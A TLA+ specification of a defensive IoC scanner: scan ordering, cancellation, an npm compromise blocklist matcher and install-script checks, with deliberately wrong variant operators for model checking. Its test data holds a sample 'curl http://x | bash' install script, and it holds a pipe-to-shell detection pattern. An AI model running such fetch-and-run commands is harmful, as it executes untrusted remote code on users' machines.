---- MODULE Spec2Model ----
(***************************************************************************)
(* IoC-Scanner: the scan orchestrator run_scan_core (scanner/core/         *)
(* common.py), the finding sink it fills, its cooperative cancellation     *)
(* token, and the compromise matcher is_compromised.                       *)
(*                                                                         *)
(* Texts (Project, Item, Detail) are sequences of code points, compared    *)
(* as Python compares str: lexicographically, the empty string first.     *)
(* Category literals are kept as strings; CategoryOrder lists them in      *)
(* ascending code-point order.                                             *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

\* ------------------------------------------------------------------ bounds
\* findings the scanned machine holds for one whole run
MaxRows == 2
\* findings one detector invocation yields
MaxOut == 2

\* the depth of the deepest directory a sweep is run on
MaxChain == 10
\* the directories of a swept tree that hold files
MaxFull == 2

\* the scans started in one session of the window
MaxScans == 2
\* Queue(maxsize=5000), scaled down
maxsize == 2
\* max_per_tick = 200, scaled down
max_per_tick == 2
\* the lines one scan logs
MaxLogs == 2
\* ------------------------------------------------------- finding records
\* add_row: the five fields of a finding
Row(category, project, item, detail, severity) ==
    [Category |-> category, Project |-> project, Item |-> item,
     Detail |-> detail, Severity |-> severity]

\* variant: the sink is assigned a new list instead of being appended to
add_rowOverwrite(rows_, r) == <<r>>

\* add_row appends one record at the end of the sink
add_row(rows_, r) == Append(rows_, r)

\* every Category literal passed to add_row, in ascending code-point order
CategoryOrder ==
    << "IoC:sysupdater", "linux:cron", "linux:ld.so.preload", "linux:path",
       "linux:suid_sgid", "linux:systemd", "mac:launch", "mac:loginitem",
       "mac:profiles", "miner:file", "miner:process", "net:hosts",
       "net:listen", "npm:config", "npm:packages", "npm:scripts",
       "persist:crontab", "persist:launchagent", "persist:launchctl",
       "persist:startup", "persist:systemd", "persist:task",
       "shell:profile", "win:defender:excl", "win:proxy", "win:service",
       "win:wmi:binding" >>

CatRank(c) == CHOOSE i \in 1..Len(CategoryOrder) : CategoryOrder[i] = c

\* str.__lt__ on texts: lexicographic, a proper prefix is smaller
RECURSIVE TextLess(_, _)
TextLess(a, b) ==
    IF b = <<>> THEN FALSE
    ELSE IF a = <<>> THEN TRUE
    ELSE IF Head(a) # Head(b) THEN Head(a) < Head(b)
    ELSE TextLess(Tail(a), Tail(b))

\* variant: the sort key leaves Detail out
KeyLessNoDetail(a, b) ==
    IF a.Category # b.Category THEN CatRank(a.Category) < CatRank(b.Category)
    ELSE IF a.Project # b.Project THEN TextLess(a.Project, b.Project)
    ELSE IF a.Item # b.Item THEN TextLess(a.Item, b.Item)
    ELSE FALSE

\* tuple.__lt__ on itemgetter("Category", "Project", "Item", "Detail")
KeyLess(a, b) ==
    IF a.Category # b.Category THEN CatRank(a.Category) < CatRank(b.Category)
    ELSE IF a.Project # b.Project THEN TextLess(a.Project, b.Project)
    ELSE IF a.Item # b.Item THEN TextLess(a.Item, b.Item)
    ELSE IF a.Detail # b.Detail THEN TextLess(a.Detail, b.Detail)
    ELSE FALSE

\* insert index i into the index list p (already ordered for s), after every
\* index whose key is not greater: equal keys keep their order of arrival
RECURSIVE InsertIdx(_, _, _)
InsertIdx(s, p, i) ==
    IF p = <<>> THEN <<i>>
    ELSE IF KeyLess(s[i], s[Head(p)]) THEN <<i>> \o p
    ELSE <<Head(p)>> \o InsertIdx(s, Tail(p), i)

\* list.sort(key=...): the order in which the records of s end up
RECURSIVE SortIdx(_, _)
SortIdx(s, n) ==
    IF n = 0 THEN <<>> ELSE InsertIdx(s, SortIdx(s, n - 1), n)

SortPerm(s) == SortIdx(s, Len(s))

\* rows.sort(key=itemgetter("Category", "Project", "Item", "Detail"))
SortRows(s) == LET p == SortPerm(s) IN [i \in 1..Len(s) |-> s[p[i]]]

\* variant: every finding above INFO is counted as HIGH
RECURSIVE CountHighNotInfo(_)
CountHighNotInfo(s) ==
    IF s = <<>> THEN 0
    ELSE (IF Head(s).Severity # "INFO" THEN 1 ELSE 0) + CountHighNotInfo(Tail(s))

\* sum(1 for r in rows if r["Severity"] == "HIGH")
RECURSIVE CountHigh(_)
CountHigh(s) ==
    IF s = <<>> THEN 0
    ELSE (IF Head(s).Severity = "HIGH" THEN 1 ELSE 0) + CountHigh(Tail(s))

\* the stats dict returned next to the rows
StatsOf(s) == [total |-> Len(s), high |-> CountHigh(s)]

\* ---------------------------------------------------------- step registry
\* the top-level steps of run_scan_core in the order of its if-statements
StepOrder ==
    << "npm_projects", "sysupdater_projects", "sysupdater_global",
       "miner_files", "miner_processes", "persistence", "hosts",
       "net_listen", "shell_profiles",
       "startup", "services", "defender_exclusions", "proxy", "wmi",
       "launch_globals", "login_items", "profiles",
       "cron_system", "systemd_system", "ld_preload", "suid",
       "path_world_writable" >>

NSteps == Len(StepOrder)

\* IS_WIN / IS_MAC / IS_LIN are mutually exclusive; "other" is none of them
OSes == {"win", "mac", "lin", "other"}

\* the IS_* conjunct in front of a gate ("any": the gate has none)
StepOS(k) ==
    IF k <= 9 THEN "any"
    ELSE IF k <= 14 THEN "win"
    ELSE IF k <= 17 THEN "mac"
    ELSE "lin"

\* variant: the token is never looked at
_should_stopNever(c) == FALSE

\* _should_stop(cancel): cancel may be None
_should_stop(c) == c = "set"

\* variant: the "not" in front of _should_stop is missing
GatePassInverted(k, o, stop, flag) ==
    /\ StepOS(k) \in {"any", o}
    /\ stop
    /\ flag

\* variant: the nested miner process gate does not look at the token
GatePassNestedUnchecked(k, o, stop, flag) ==
    /\ StepOS(k) \in {"any", o}
    /\ (k = 5 \/ ~stop)
    /\ flag

\* the condition of gate k: [IS_x and] not _should_stop(cancel) and flag
GatePass(k, o, stop, flag) ==
    /\ StepOS(k) \in {"any", o}
    /\ ~stop
    /\ flag

\* where control goes when gate k does not pass: the miner process gate (5)
\* is nested in the miner files branch, so it is skipped with it
NextOnSkip(k) == IF k = 4 THEN 6 ELSE k + 1

\* variant: a detector that returns is tried again
NextOnReturnAgain(k) == k

\* where control goes when detector k returns: the project step (1) and its
\* alternate (2) are the two arms of one if/elif
NextOnReturn(k) == IF k = 1 THEN 3 ELSE k + 1


\* ------------------------------------------------------ detector outputs
\* texts: "" and two non-empty texts (str(root), a path, a name, a line)
Empty == <<>>
T1 == <<1>>
T2 == <<2>>

\* sequences over S of length at most n
BSeq(S, n) == UNION {[1..m -> S] : m \in 0..n}

Min(a, b) == IF a < b THEN a ELSE b

\* the records scan_projects_under_root can append through scan_npm_project
\* for one project, by the arguments it is called with; poll tells whether
\* the code evaluates _should_stop between the previous append and this one
ProjectItems(only_risk, check_sysupdater, check_scripts) ==
    \* walk_package_tree / yarn.lock / pnpm-lock.yaml: no poll between
    \* appends; package-lock.json: one poll per entry
    {[poll |-> p, row |-> Row("npm:packages", T1, T1, T1, "HIGH")] : p \in BOOLEAN}
    \cup (IF only_risk THEN {}
          ELSE {[poll |-> p, row |-> Row("npm:packages", T1, T2, T1, "INFO")] :
                    p \in BOOLEAN})
    \* scripts of package.json: one poll per script; .npmrc: no poll
    \cup (IF check_scripts
          THEN {[poll |-> TRUE, row |-> Row("npm:scripts", T1, T1, T1, "MEDIUM")],
                [poll |-> FALSE, row |-> Row("npm:config", T1, T1, T1, "INFO")]}
          ELSE {})
    \* scan_sysupdater_in_dir: one poll per file
    \cup (IF check_sysupdater
          THEN {[poll |-> TRUE, row |-> Row("IoC:sysupdater", T1, T1, T1, "HIGH")]}
          ELSE {})

\* the records the detector of step k >= 3 can append on operating system o
DetectorRows(k, o) ==
    CASE k = 3 -> {Row("IoC:sysupdater", T1, T1, d, "HIGH") : d \in {T1, T2}}
      [] k = 4 -> {Row("miner:file", T1, T1, d, "HIGH") : d \in {T1, T2}}
      [] k = 5 -> {Row("miner:process", Empty, T1, T1, s) : s \in {"HIGH", "MEDIUM"}}
      [] k = 6 ->
           (CASE o = "win" -> {Row("persist:task", T1, T1, T1, s) :
                                   s \in {"MEDIUM", "INFO"}}
              [] o = "mac" -> {Row("persist:launchagent", T1, T1, T1, "INFO"),
                               Row("persist:launchctl", Empty, Empty, T1, "INFO")}
              [] o = "lin" -> {Row("persist:crontab", Empty, Empty, T1, s) :
                                   s \in {"MEDIUM", "INFO"}}
                              \cup {Row("persist:systemd", T1, Empty, T1, "INFO")}
              \* linux.scan_persistence returns at once when not IS_LIN
              [] OTHER -> {})
      [] k = 7 -> {Row("net:hosts", T1, T1, T1, "MEDIUM")}
      [] k = 8 -> {Row("net:listen", Empty, T1, T1, s) : s \in {"HIGH", "MEDIUM"}}
      [] k = 9 -> {Row("shell:profile", T1, T1, T1, "MEDIUM")}
      [] k = 10 -> {Row("persist:startup", T1, T1, T1, s) : s \in {"MEDIUM", "HIGH"}}
      [] k = 11 -> {Row("win:service", T1, T1, T1, s) : s \in {"INFO", "MEDIUM", "HIGH"}}
      [] k = 12 -> {Row("win:defender:excl", T1, T1, T1, "MEDIUM")}
      [] k = 13 -> {Row("win:proxy", T1, T1, T1, "MEDIUM")}
      [] k = 14 -> {Row("win:wmi:binding", T1, T1, T1, s) : s \in {"HIGH", "MEDIUM"}}
      [] k = 15 -> {Row("mac:launch", T1, T1, T1, "INFO")}
      [] k = 16 -> {Row("mac:loginitem", Empty, T1, T1, "INFO")}
      [] k = 17 -> {Row("mac:profiles", Empty, Empty, T1, "INFO")}
      [] k = 18 -> {Row("linux:cron", T1, T1, T1, s) : s \in {"MEDIUM", "INFO"}}
      [] k = 19 -> {Row("linux:systemd", T1, Empty, T1, "INFO")}
      [] k = 20 -> {Row("linux:ld.so.preload", T1, T1, T1, "HIGH")}
      [] k = 21 -> {Row("linux:suid_sgid", Empty, T1, T1, "MEDIUM")}
      [] k = 22 -> {Row("linux:path", Empty, T1, T1, "HIGH")}
      [] OTHER -> {}

\* scan_sysupdater_global and scan_miner_files poll the token before every
\* directory and every file; the other detectors of steps >= 3 never do
Polled(k) == k \in {3, 4}

DetectorItems(k, o) == {[poll |-> Polled(k), row |-> r] : r \in DetectorRows(k, o)}

\* detectors with a code path on which an error other than OSError /
\* JSONDecodeError / UnicodeError leaves them: read_json on a manifest or
\* lockfile raises RecursionError for deeply nested JSON
CanRaise(k) == k \in {1, 2}

RaiseChoices(k) == IF CanRaise(k) THEN BOOLEAN ELSE {FALSE}

\* what the machine holds for one detector invocation: at most MaxOut
\* records, and at most MaxRows over the whole run (ft: those drawn so far)
WorkSet(items, ft) == BSeq(items, Min(MaxOut, MaxRows - ft))


\* ------------------------------------------------------------------ state
VARIABLES
    os,           \* which of IS_WIN / IS_MAC / IS_LIN holds
    cancel,       \* the cancel argument: "none" (None), "unset", "set"
    pc,           \* "gate", "run", "emit", "sort" or "done"
    pos,          \* index in StepOrder of the gate evaluated / detector run
    rows,         \* the sink: the list run_scan_core builds and returns
    work,         \* what the running detector still has to go through
    raises,       \* the running detector raises once its work is through
    interrupted,  \* KeyboardInterrupt was caught by the except clause
    outcome,      \* "running", "returned" or "raised" (an error left the call)
    stats,        \* the stats dict returned with the rows
    csvOut,       \* what write_csv was given, if options.csv
    jsonOut,      \* what write_json was given, if options.json
    summary,      \* the last line logged: "none", "normal" or "early"
    \* history, not read by the program:
    cancelAtCall, \* the token as it was when run_scan_core was called
    appended,     \* every record passed to add_row, in order
    atCancel,     \* appended, as it was when the token was set
    order,        \* the permutation the final sort applied
    fullTotal,    \* findings of the run on the same inputs, token never set
    fullRaises,   \* that run ends with an error instead of returning
    \* the compromise matcher, called on its own:
    BAD_PACKAGES, \* the blocklist: package name -> list of versions
    mname,        \* the name argument of is_compromised
    mversion,     \* the version argument of is_compromised
    mresult,      \* the value is_compromised returned
    mpc           \* "idle", "call" (about to call) or "done" (returned)

\* the package tree walker, called on its own:
VARIABLES
    wtree,        \* the parsed output of npm ls: dependency path -> node
    wname,        \* data.get("name", ""): the name of the root node
    wonly_risk,   \* the only_risk argument
    wrows,        \* the sink the walker appends to
    wpc           \* "idle", "call" or "done"

\* the project step of run_scan_core on a root that holds one project:
VARIABLES
    options,      \* no_npm, sysupdater_project, only_risk, no_scripts
    pcancel,      \* the cancel argument: "none", "unset" or "set"
    ppc,          \* the sub-step that comes next, "idle" or "done"
    pargs,        \* only_risk, check_sysupdater, check_scripts as passed
                  \* to scan_projects_under_root
    prows,        \* the sink
    pwork,        \* what the running loop still has to go through
    pused,        \* how much of the project's content was read so far
    \* history, not read by the program:
    pscripts,     \* descriptor["scripts"] as it was read
    prowsAll      \* the sink of the run on the same project and flags,
                  \* only_risk off, token never set

\* scan_projects_under_root walking a directory tree:
VARIABLES
    dtree,        \* the directories below root, as paths from root (<<>>)
    exclude_names,\* the configured exclusions, as given
    max_depth,
    check_sysupdater,
    dcancel,      \* the cancel argument: "none", "unset" or "set"
    dpc,          \* "idle", "walk" or "done"
    dstack,       \* the directories os.walk has still to yield, in order
    \* history, not read by the program:
    dvisits,      \* what os.walk yielded: path, files, whether the depth
                  \* test skipped it, the children left in dirnames
    dcalls,       \* the directories scan_npm_project was called on
    dswept        \* the directories whose files a nested signature sweep
                  \* went through

\* the resolution of one remote signature list at import:
VARIABLES
    fkind,        \* how the list is resolved: "replace" or "merge"
    fcache,       \* the cache file: exists, age, kind of content, items
    fnet,         \* what requests.get and resp.json() come to
    fwrite,       \* what cache_file.write_text comes to
    fpc,          \* "idle", "call", "write", "fallback", "resolve",
                  \* "done" or "raised"
    fdata,        \* the document fetched
    fresult,      \* what fetch_json returned
    fresolved,    \* the list the module ends up with
    \* history, not read by the program:
    frequested,   \* a network request was made
    fcache0       \* the cache file at the call

\* one depth-limited sweep (scan_sysupdater_global, scan_miner_files):
VARIABLES
    skind,        \* "sysupdater_global" or "miners"
    sopt,         \* options.max_depth
    sexclude,     \* exclude_names
    scancel,      \* the cancel argument: "none", "unset" or "set"
    spc,          \* "idle", "gate", "walk", "files" or "done"
    smax,         \* the max_depth argument of the sweep
    sdir,         \* dirpath, as the path from root (<<>>)
    sfiles,       \* the files of dirpath still to look at
    snext,        \* dirnames after the pruning
    srows,        \* the findings appended
    \* history, not read by the program:
    svisits       \* what os.walk yielded: path, files, whether the depth
                  \* test skipped it, the children left in dirnames

\* the window of the graphical front-end and its worker threads:
VARIABLES
    gq,           \* q, the queue between the worker and the Tk thread
    dropped,      \* dropped["count"]
    running,      \* running["flag"]
    btn_run,      \* the button: "start", "stop", or "stopping" (disabled)
    cancel_event, \* the scan whose token cancel_event refers to, 0 for None
    gtokens,      \* the Event of each scan: "none" (not created), "unset",
                  \* "set"
    gworker,      \* the thread of each scan: "none", "run", "put_done",
                  \* "ended", "put_err", "failed" or "died"
    gleft,        \* the lines run_scan_core has still to log
    gpump,        \* pump_log: "idle", "loop" or "after" (the sentinel was
                  \* met)
    processed,    \* processed, of pump_log
    gapp,         \* the window: "open", "closing" or "destroyed"
    \* history, not read by the program:
    gsent,        \* the sentinels put, per scan
    gconsumed     \* the sentinels pump_log met, per scan

vars == << os, cancel, pc, pos, rows, work, raises, interrupted, outcome,
           stats, csvOut, jsonOut, summary, cancelAtCall, appended, atCancel, order,
           fullTotal, fullRaises, BAD_PACKAGES, mname, mversion, mresult,
           mpc, wtree, wname, wonly_risk, wrows, wpc,
           options, pcancel, ppc, pargs, prows, pwork, pused, pscripts,
           prowsAll, dtree, exclude_names, max_depth, check_sysupdater,
           dcancel, dpc, dstack, dvisits, dcalls, dswept,
           fkind, fcache, fnet, fwrite, fpc, fdata, fresult, fresolved,
           frequested, fcache0,
           skind, sopt, sexclude, scancel, spc, smax, sdir, sfiles, snext,
           srows, svisits,
           gq, dropped, running, btn_run, cancel_event, gtokens, gworker,
           gleft, gpump, processed, gapp, gsent, gconsumed >>

guiVars == << gq, dropped, running, btn_run, cancel_event, gtokens, gworker,
              gleft, gpump, processed, gapp, gsent, gconsumed >>

sweepVars == << skind, sopt, sexclude, scancel, spc, smax, sdir, sfiles,
                snext, srows, svisits >>

fetchVars == << fkind, fcache, fnet, fwrite, fpc, fdata, fresult, fresolved,
                frequested, fcache0 >>

discVars == << dtree, exclude_names, max_depth, check_sysupdater, dcancel,
               dpc, dstack, dvisits, dcalls, dswept >>

walkVars == << wtree, wname, wonly_risk, wrows, wpc >>

projVars == << options, pcancel, ppc, pargs, prows, pwork, pused, pscripts,
               prowsAll >>

scanVars == << os, cancel, pc, pos, rows, work, raises, interrupted, outcome,
               stats, csvOut, jsonOut, summary, cancelAtCall, appended, atCancel,
               order, fullTotal, fullRaises >>

matchVars == << BAD_PACKAGES, mname, mversion, mresult, mpc >>

\* what an action of one component leaves alone
notScanVars == << matchVars, walkVars, projVars, discVars, fetchVars,
                 sweepVars,
                 guiVars >>
notMatchVars == << scanVars, walkVars, projVars, discVars, fetchVars,
                  sweepVars,
                 guiVars >>
notWalkVars == << scanVars, matchVars, projVars, discVars, fetchVars,
                 sweepVars,
                 guiVars >>
notProjVars == << scanVars, matchVars, walkVars, discVars, fetchVars,
                 sweepVars,
                 guiVars >>
notDiscVars == << scanVars, matchVars, walkVars, projVars, fetchVars,
                 sweepVars,
                 guiVars >>
notFetchVars == << scanVars, matchVars, walkVars, projVars, discVars,
                  sweepVars,
                 guiVars >>
notSweepVars == << scanVars, matchVars, walkVars, projVars, discVars,
                  fetchVars, guiVars >>
notGuiVars == << scanVars, matchVars, walkVars, projVars, discVars,
                fetchVars, sweepVars >>

NoStats == [total |-> -1, high |-> -1]
NotWritten == [written |-> FALSE, rows |-> <<>>]

\* --------------------------------------------------- compromise matcher
\* package names: two that blocklists name, one that none names
Names == {"chalk", "debug", "left-pad"}
BlockedNames == {"chalk", "debug"}

\* version strings by their dot-separated parts: 5.6.1, 5.6.0, 5.6, 5.6.10
Versions == { <<5, 6, 1>>, <<5, 6, 0>>, <<5, 6>>, <<5, 6, 10>> }

\* longest version list of a blocklist entry
MaxVersions == 2

\* v in lst, for a Python list: the elements are compared with == in turn
RECURSIVE ListContains(_, _)
ListContains(lst, v) ==
    IF lst = <<>> THEN FALSE
    ELSE IF Head(lst) = v THEN TRUE
    ELSE ListContains(Tail(lst), v)

\* variant: a listed version matches every version it is a prefix of
is_compromisedPrefix(name, version) ==
    IF name \in DOMAIN BAD_PACKAGES
    THEN \E i \in DOMAIN BAD_PACKAGES[name] :
           LET b == BAD_PACKAGES[name][i]
           IN  Len(b) <= Len(version) /\ SubSeq(version, 1, Len(b)) = b
    ELSE FALSE

\* is_compromised: name in BAD_PACKAGES and version in BAD_PACKAGES[name]
is_compromised(name, version) ==
    IF name \in DOMAIN BAD_PACKAGES
    THEN ListContains(BAD_PACKAGES[name], version)
    ELSE FALSE

\* the blocklists: a dict from some blocked names to lists of versions
Blocklists ==
    UNION {[K -> BSeq(Versions, MaxVersions)] : K \in SUBSET BlockedNames}

\* the matcher is not being called: a blocklist is loaded, no arguments
MatchIdle ==
    /\ BAD_PACKAGES = [n \in {"chalk"} |-> << <<5, 6, 1>> >>]
    /\ mname = "none"
    /\ mversion = <<>>
    /\ mresult = FALSE
    /\ mpc = "idle"

\* ------------------------------------------------- package tree walker
\* nodes below the root in one npm ls document
MaxNodes == 4

\* names that targets.json adds to the watch set without blocking them
extra_targets == {"debug"}

\* TARGETS = sorted(set(BAD_PACKAGES.keys()) | set(extra_targets))
TARGETS == DOMAIN BAD_PACKAGES \cup extra_targets

\* the order in which the keys of a "dependencies" object are listed
DepOrder == << "chalk", "debug", "left-pad" >>

\* node.get("version") when it is missing, None or ""
NoVersion == <<>>

\* a node of the document: a JSON object with or without a version, or a
\* value that is not an object
NodeKinds ==
    { [isdict |-> TRUE, version |-> NoVersion],
      [isdict |-> TRUE, version |-> <<5, 6, 1>>],
      [isdict |-> FALSE, version |-> NoVersion] }

\* the sets of dependency paths of the documents with at most n nodes below
\* the root (<<>>): every path comes with its prefixes
RECURSIVE TreeShapes(_)
TreeShapes(n) ==
    IF n = 0 THEN {{<<>>}}
    ELSE LET S == TreeShapes(n - 1)
         IN  S \cup UNION {{T \cup {Append(q, m)} : q \in T, m \in Names} :
                              T \in {X \in S : Cardinality(X) = n}}

\* the names under "dependencies" of the node at path q, in document order
DepNames(tree, q) ==
    SelectSeq(DepOrder, LAMBDA m : Append(q, m) \in DOMAIN tree)

\* the documents over one shape: the root is an object (the caller checks
\* it) carrying the project's version, and only an object has dependencies
Documents(T) ==
    {f \in [T -> NodeKinds] :
        /\ f[<<>>].isdict /\ f[<<>>].version # NoVersion
        /\ \A q \in T : f[q].isdict \/ DepNames(f, q) = <<>>}

\* variant: the test of only_risk is inverted
ShouldEmitWhenOn(only_risk, compromised) == only_risk \/ compromised

\* (not only_risk) or compromised
ShouldEmit(only_risk, compromised) == ~only_risk \/ compromised

\* variant: a node is reported whether or not it has a version
IsReportedAnyVersion(current_name, version) ==
    current_name # "" /\ current_name \in TARGETS

\* current_name and version and current_name in TARGETS
IsReported(current_name, version) ==
    current_name # "" /\ version # NoVersion /\ current_name \in TARGETS

\* variant: every reported package is given the severity HIGH
PackageRowAlwaysHigh(project, name, version, where) ==
    LET compromised == is_compromised(name, version)
    IN  Row("npm:packages", project,
            << name, version, IF compromised THEN "A RISQUE" ELSE "OK" >>,
            where, "HIGH")

\* the record walk_package_tree appends for a reported node: Item stands
\* for f"{current_name}@{version} [{status}]", Detail for
\* " > ".join(path_stack)
PackageRow(project, name, version, where) ==
    LET compromised == is_compromised(name, version)
    IN  Row("npm:packages", project,
            << name, version, IF compromised THEN "A RISQUE" ELSE "OK" >>,
            where,
            IF compromised THEN "HIGH" ELSE "INFO")

\* walk_package_tree(node, current_name, path_stack, rows, project,
\* only_risk), node being the node of tree at path q; the value is the sink
\* after the call
RECURSIVE walk_package_tree(_, _, _, _, _, _, _)
RECURSIVE WalkDependencies(_, _, _, _, _, _, _)
walk_package_tree(tree, q, current_name, path_stack, rows_, project, only_risk) ==
    IF ~tree[q].isdict THEN rows_
    ELSE LET version == tree[q].version
             own == IF /\ IsReported(current_name, version)
                       /\ ShouldEmit(only_risk,
                                     is_compromised(current_name, version))
                    THEN add_row(rows_, PackageRow(project, current_name,
                                                   version, path_stack))
                    ELSE rows_
         IN  WalkDependencies(tree, q, DepNames(tree, q), path_stack, own,
                              project, only_risk)

\* for depname, depnode in dependencies.items(): walk_package_tree(depnode,
\* depname, path_stack + [depname], rows, project, only_risk)
WalkDependencies(tree, q, deps, path_stack, rows_, project, only_risk) ==
    IF deps = <<>> THEN rows_
    ELSE WalkDependencies(
             tree, q, Tail(deps), path_stack,
             walk_package_tree(tree, Append(q, Head(deps)), Head(deps),
                               Append(path_stack, Head(deps)), rows_,
                               project, only_risk),
             project, only_risk)

\* the walker is not being called
WalkIdle ==
    /\ wtree = [q \in {<<>>} |-> [isdict |-> TRUE, version |-> NoVersion]]
    /\ wname = ""
    /\ wonly_risk = FALSE
    /\ wrows = <<>>
    /\ wpc = "idle"

\* ------------------------------------------ npm project scan: producers
\* what one project holds for the sub-steps of scan_npm_project to read:
\* dependency nodes, lockfile entries, lockfile tokens, scripts, rc files
\* and signature files, all together
MaxItems == 2

\* str.lower() on the words used below
Lower(t) ==
    CASE t = "Prepare" -> "prepare"
      [] t = "Package.JSON" -> "package.json"
      [] t = "Extensions" -> "extensions"
      [] t = ".VSCode" -> ".vscode"
      [] t = "SysUpdater.DAT" -> "sysupdater.dat"
      [] t = "SRC" -> "src"
      [] OTHER -> t

\* the values of data["packages"] in package-lock.json
LockMetas ==
    { [isdict |-> TRUE, name |-> "chalk", version |-> <<5, 6, 1>>],
      [isdict |-> TRUE, name |-> "chalk", version |-> <<5, 6, 0>>],
      [isdict |-> TRUE, name |-> "left-pad", version |-> <<5, 6, 1>>],
      [isdict |-> TRUE, name |-> "chalk", version |-> NoVersion],
      [isdict |-> FALSE, name |-> "", version |-> NoVersion] }

\* the key of the i-th entry of data["packages"]: keys of a dict differ
LockKey(i, meta) == [j \in 1..i |-> "node_modules"] \o <<meta.name>>

\* one turn of "for pkgpath, meta in pkgs.items()" after its poll
LockEntryRows(rows_, project, pkgpath, meta, only_risk) ==
    IF ~meta.isdict THEN rows_
    ELSE IF /\ meta.name # "" /\ meta.version # NoVersion
            /\ meta.name \in TARGETS
            /\ ShouldEmit(only_risk, is_compromised(meta.name, meta.version))
    THEN add_row(rows_, PackageRow(project, meta.name, meta.version, pkgpath))
    ELSE rows_

\* name@version tokens of a line-oriented lockfile; 5.6 is no
\* MAJOR.MINOR.PATCH triplet
LineTokens ==
    { [name |-> "chalk", version |-> <<5, 6, 1>>],
      [name |-> "chalk", version |-> <<5, 6, 0>>],
      [name |-> "left-pad", version |-> <<5, 6, 1>>],
      [name |-> "chalk", version |-> <<5, 6>>] }

\* TARGETS is a sorted list
TargetOrder == SelectSeq(DepOrder, LAMBDA m : m \in TARGETS)

\* re.finditer(rf"\b{name}@(\d+\.\d+\.\d+)\b", txt), in text order
Matches(txt, name) ==
    SelectSeq(txt, LAMBDA t : t.name = name /\ Len(t.version) = 3)

\* for m in re.finditer(...): the findings of one watched name
RECURSIVE MatchRows(_, _, _, _, _)
MatchRows(rows_, project, ms, lockfile, only_risk) ==
    IF ms = <<>> THEN rows_
    ELSE MatchRows(
             IF ShouldEmit(only_risk,
                           is_compromised(Head(ms).name, Head(ms).version))
             THEN add_row(rows_, PackageRow(project, Head(ms).name,
                                            Head(ms).version, <<lockfile>>))
             ELSE rows_,
             project, Tail(ms), lockfile, only_risk)

\* for name in TARGETS: ... over yarn.lock or pnpm-lock.yaml
RECURSIVE LineLockRows(_, _, _, _, _, _)
LineLockRows(rows_, project, txt, names, lockfile, only_risk) ==
    IF names = <<>> THEN rows_
    ELSE LineLockRows(
             MatchRows(rows_, project, Matches(txt, Head(names)), lockfile,
                       only_risk),
             project, txt, Tail(names), lockfile, only_risk)

\* script names, word by word: postinstall, Prepare, build
ScriptNames == { <<"post", "install">>, <<"Prepare">>, <<"build">> }

\* script commands, word by word; isnone: the JSON value is null
ScriptCmds ==
    { [isnone |-> FALSE, text |-> <<"curl", "http://x", "|", "bash">>],
      [isnone |-> FALSE, text |-> <<"node", "build.js">>],
      [isnone |-> TRUE, text |-> <<>>] }

\* the words pat occur in text one after the other, case ignored
ContainsSeq(text, pat) ==
    \E i \in 1..(Len(text) - Len(pat) + 1) :
        \A j \in 1..Len(pat) : Lower(text[i + j - 1]) = pat[j]

\* variant: the script name is searched without re.I
is_install_phaseCaseSensitive(script_name) ==
    \E pat \in {<<"post", "install">>, <<"prepare">>, <<"install">>} :
        \E i \in 1..(Len(script_name) - Len(pat) + 1) :
            \A j \in 1..Len(pat) : script_name[i + j - 1] = pat[j]

\* re.search(r"(postinstall|prepare|install)", script_name, flags=re.I)
is_install_phase(script_name) ==
    \E pat \in {<<"post", "install">>, <<"prepare">>, <<"install">>} :
        ContainsSeq(script_name, pat)

\* the pipe-to-shell patterns of SUSPICIOUS_SCRIPT_PATTERNS, by the command
\* they start with: curl\s+[^|]+?\|\s*(bash|sh|zsh|python|python3), wget ...
SUSPICIOUS_SCRIPT_PATTERNS == << "curl", "wget" >>

\* re.search(pat, cmd, flags=re.I): the command word, at least one word
\* that is not a pipe, a pipe, a shell
PipeToShell(cmd, head) ==
    \E i \in 1..Len(cmd) : \E k \in (i + 2)..(Len(cmd) - 1) :
        /\ Lower(cmd[i]) = head
        /\ \A j \in (i + 1)..(k - 1) : cmd[j] # "|"
        /\ cmd[k] = "|"
        /\ Lower(cmd[k + 1]) \in {"bash", "sh", "zsh", "python", "python3"}

\* any(re.search(pat, cmd, flags=re.I) for pat in SUSPICIOUS_SCRIPT_PATTERNS)
has_suspicious_pattern(cmd) ==
    \E n \in DOMAIN SUSPICIOUS_SCRIPT_PATTERNS :
        PipeToShell(cmd, SUSPICIOUS_SCRIPT_PATTERNS[n])

\* one turn of "for script_name, script_cmd in descriptor['scripts'].items()"
\* after its poll; pkg is the path of the manifest
ScriptEntryRows(rows_, project, script_name, script_cmd, pkg) ==
    LET cmd == IF script_cmd.isnone THEN <<>> ELSE script_cmd.text
    IN  IF is_install_phase(script_name) \/ has_suspicious_pattern(cmd)
        THEN Append(rows_,
                    [Category |-> "npm:scripts", Project |-> project,
                     Item |-> script_name, Detail |-> cmd,
                     Severity |-> "MEDIUM", DescriptorPath |-> pkg])
        ELSE rows_

\* the rc files read after the scripts: [proj_dir / ".npmrc",
\* Path.home() / ".npmrc"]
RcFiles == << <<".npmrc">>, <<"~", ".npmrc">> >>

\* for _rc in [...]: a row for each rc file that exists and holds
\* "ignore-scripts=true"; holds is the set of those files
RECURSIVE NpmrcRows(_, _, _, _)
NpmrcRows(rows_, project, rcs, holds) ==
    IF rcs = <<>> THEN rows_
    ELSE NpmrcRows(
             IF Head(rcs) \in holds
             THEN add_row(rows_, Row("npm:config", project,
                                     <<"ignore-scripts">>, Head(rcs), "INFO"))
             ELSE rows_,
             project, Tail(rcs), holds)

\* SYSUPDATER_NAMES
SYSUPDATER_NAMES == {".sysupdater.dat", "sysupdater.dat"}

\* file names met by the signature sweep of a project
FileNames == {"sysupdater.dat", "SysUpdater.DAT", "readme.md"}

\* one turn of "for filename in files" of scan_sysupdater_in_dir after its
\* poll
SysupdaterFileRows(rows_, project_tag, filename) ==
    IF Lower(filename) \in SYSUPDATER_NAMES
    THEN add_row(rows_, Row("IoC:sysupdater", project_tag, <<filename>>,
                            <<filename>>, "HIGH"))
    ELSE rows_

\* the listings of a directory of at most n files: names differ
Listings(n) ==
    {fs \in BSeq(FileNames, n) : \A i, j \in DOMAIN fs : i # j => fs[i] # fs[j]}

\* the scripts objects of at most n entries: the keys of a dict differ
ScriptMaps(n) ==
    {sc \in BSeq([name : ScriptNames, cmd : ScriptCmds], n) :
        \A i, j \in DOMAIN sc : i # j => sc[i].name # sc[j].name}

\* the project step is not running
ProjectIdle ==
    /\ options = [no_npm |-> FALSE, sysupdater_project |-> FALSE,
                  only_risk |-> FALSE, no_scripts |-> FALSE]
    /\ pcancel = "none"
    /\ ppc = "idle"
